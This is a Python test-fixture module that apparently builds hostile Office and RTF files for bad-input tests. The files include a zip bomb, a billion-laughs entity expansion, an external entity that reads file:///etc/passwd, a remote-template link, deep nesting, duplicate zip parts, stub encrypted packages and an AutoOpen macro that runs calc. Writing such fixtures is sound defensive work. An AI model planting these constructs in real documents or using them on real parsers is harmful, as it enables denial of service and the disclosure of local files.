"""Builders of hostile Office files: entities, macros, locks, sheets without end, nested groups."""

from __future__ import annotations

import io
import struct
import zipfile
from functools import cache
from itertools import pairwise
from pathlib import Path

import docx
import openpyxl

from tests.bad_input.hostile_archives import MEBIBYTE, written, zip_of

_MAIN = "word/document.xml"
_WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_HEADER = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
_VBA = b'Attribute VB_Name = "Thu"\nSub AutoOpen()\nShell "calc"\nEnd Sub\n' * 100
_FREE, _END, _TABLE = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD


@cache
def plain_docx() -> bytes:
    """A sound document of twenty paragraphs: what the broken ones are cut from."""
    document = docx.Document()
    document.add_paragraph("THÔNG BÁO")
    for number in range(1, 20):
        document.add_paragraph(f"{number}. Nội dung giả định thứ {number}, số liệu 99.")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


@cache
def plain_xlsx() -> bytes:
    """A sound workbook of one sheet and two rows."""
    book = openpyxl.Workbook()
    for row in (("Đơn vị", "Số lượng"), ("Phòng Mẫu", 99)):
        book.worksheets[0].append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _with_parts(package: bytes, changes: dict[str, bytes]) -> bytes:
    """`package` with these parts put in the place of its own, or added."""
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    return zip_of(list({**parts, **changes}.items()))


def _part(package: bytes, name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        return archive.read(name).decode()


def _word_body(body: str, before_root: str = "") -> bytes:
    root = f"<w:document {_WORD}><w:body>{body}</w:body></w:document>"
    return f"{_HEADER}{before_root}{root}".encode()


def _paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def bomb(folder: Path) -> Path:
    """A small .docx whose main part unpacks to 128 MiB of blanks."""
    start, end = _word_body(_paragraph("Bom")).split(b"</w:body>")
    blown_up = start + b" " * (128 * MEBIBYTE) + b"</w:body>" + end
    return written(folder / "bom.docx", _with_parts(plain_docx(), {_MAIN: blown_up}))


def billion_laughs(folder: Path) -> Path:
    """Ten levels of entities that unfold to ten thousand million words."""
    names = "abcdefghij"
    levels = [f'<!ENTITY {names[0]} "cười ">']
    for inner, outer in pairwise(names):
        levels.append(f'<!ENTITY {outer} "{f"&{inner};" * 10}">')
    main = _word_body(_paragraph("&j;"), f"<!DOCTYPE w:document [{''.join(levels)}]>")
    return written(folder / "ty_tieng_cuoi.docx", _with_parts(plain_docx(), {_MAIN: main}))


def outside_entity(folder: Path) -> Path:
    """An entity that asks for a file of the machine."""
    doctype = '<!DOCTYPE w:document [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    main = _word_body(_paragraph("Bắt đầu &a; hết"), doctype)
    return written(folder / "thuc_the_ngoai.docx", _with_parts(plain_docx(), {_MAIN: main}))


def remote_template(folder: Path) -> Path:
    """A sound document that names a template on a server (192.0.2.1 answers nobody)."""
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    link = f'<Relationship Id="rId999" Type="{kind}" Target="http://192.0.2.1/m.dotm"'
    name = "word/_rels/document.xml.rels"
    relations = _part(plain_docx(), name).replace(
        "</Relationships>", f'{link} TargetMode="External"/></Relationships>'
    )
    return written(folder / "mau_tu_xa.docx", _with_parts(plain_docx(), {name: relations.encode()}))


def nested_tables(folder: Path) -> Path:
    """A table in a table, three thousand times."""
    depth = 3000
    main = _word_body(
        "<w:tbl><w:tr><w:tc>" * depth + _paragraph("Đáy") + "</w:tc></w:tr></w:tbl>" * depth
    )
    return written(folder / "bang_long_bang.docx", _with_parts(plain_docx(), {_MAIN: main}))


def two_main_parts(folder: Path) -> Path:
    """Two parts of the same name: readers differ in which they take."""
    package = io.BytesIO(plain_docx())
    with zipfile.ZipFile(package, "a") as archive:
        del archive.NameToInfo[_MAIN]  # or zipfile would warn of what is wanted here
        archive.writestr(_MAIN, _word_body(_paragraph("Nội dung thứ hai")))
    return written(folder / "hai_ban.docx", package.getvalue())


def macro_document(folder: Path) -> Path:
    """A .docm with a macro that runs when it is opened."""
    types = ("openxmlformats-officedocument.wordprocessingml.document", "ms-word.document")
    package = _with_macro(plain_docx(), "word/vbaProject.bin", types)
    return written(folder / "co_macro.docm", package)


def macro_workbook(folder: Path) -> Path:
    """An .xlsm with a macro."""
    types = ("openxmlformats-officedocument.spreadsheetml.sheet", "ms-excel.sheet")
    package = _with_macro(plain_xlsx(), "xl/vbaProject.bin", types)
    return written(folder / "co_macro.xlsm", package)


def _with_macro(package: bytes, place: str, types: tuple[str, str]) -> bytes:
    sound, macro = types
    name = "[Content_Types].xml"
    listing = _part(package, name).replace(f"{sound}.main", f"{macro}.macroEnabled.main")
    return _with_parts(package, {name: listing.encode(), place: _VBA})


def endless_sheet(folder: Path) -> Path:
    """Two values in a sheet that says it has a million rows of 16,384 columns."""
    name = "xl/worksheets/sheet1.xml"
    sheet = (
        f'{_HEADER}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<dimension ref="A1:XFD1048576"/><sheetData>'
        '<row r="1"><c r="A1"><v>99</v></c></row>'
        '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
        "</sheetData></worksheet>"
    )
    return written(folder / "vo_tan.xlsx", _with_parts(plain_xlsx(), {name: sheet.encode()}))


def password_docx(folder: Path) -> Path:
    """A .docx encrypted with a password."""
    return written(folder / "co_mat_khau.docx", _encrypted_package())


def password_xlsx(folder: Path) -> Path:
    """An .xlsx encrypted with a password."""
    return written(folder / "co_mat_khau.xlsx", _encrypted_package())


def _encrypted_package() -> bytes:
    """The compound file in which Office keeps an encrypted document ([MS-CFB], [MS-OFFCRYPTO])."""
    agile = b"<encryption xmlns='http://schemas.microsoft.com/office/2006/encryption'/>"
    description = struct.pack("<HHI", 4, 4, 0x40) + agile
    streams = [("EncryptionInfo", description), ("EncryptedPackage", struct.pack("<Q", 4000))]
    padded = [(name, content.ljust(4096, b"\x5a")) for name, content in streams]
    sectors_each = 4096 // 512
    first = [2, 2 + sectors_each]
    entries = _directory_entry("Root Entry", 5, child=1, start=_END, size=0)
    entries += _directory_entry(padded[0][0], 2, right=2, start=first[0], size=4096)
    entries += _directory_entry(padded[1][0], 2, start=first[1], size=4096)
    table = [_TABLE, _END]
    for start in first:
        table += [*range(start + 1, start + sectors_each), _END]
    sectors = struct.pack("<128I", *table, *[_FREE] * (128 - len(table)))
    return _compound_header() + sectors + entries.ljust(512, b"\0") + padded[0][1] + padded[1][1]


def _compound_header() -> bytes:
    signature = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(16)
    versions = struct.pack("<HHHHH6x", 0x3E, 3, 0xFFFE, 9, 6)
    places = struct.pack("<IIIIIIIIII", 0, 1, 1, 0, 4096, _END, 0, _END, 0, 0)
    return (signature + versions + places).ljust(512, b"\xff")


def _directory_entry(
    name: str, kind: int, *, start: int, size: int, child: int = _FREE, right: int = _FREE
) -> bytes:
    encoded = (name + "\0").encode("utf-16-le")
    head = encoded.ljust(64, b"\0") + struct.pack("<HBB", len(encoded), kind, 1)
    return head + struct.pack("<III36xIQ", _FREE, right, child, start, size)


def nested_rtf(folder: Path) -> Path:
    """A .rtf of two hundred thousand open groups."""
    depth = 200_000
    return written(folder / "nhom_long.rtf", b"{\\rtf1 " + b"{" * depth + b"99" + b"}" * depth)
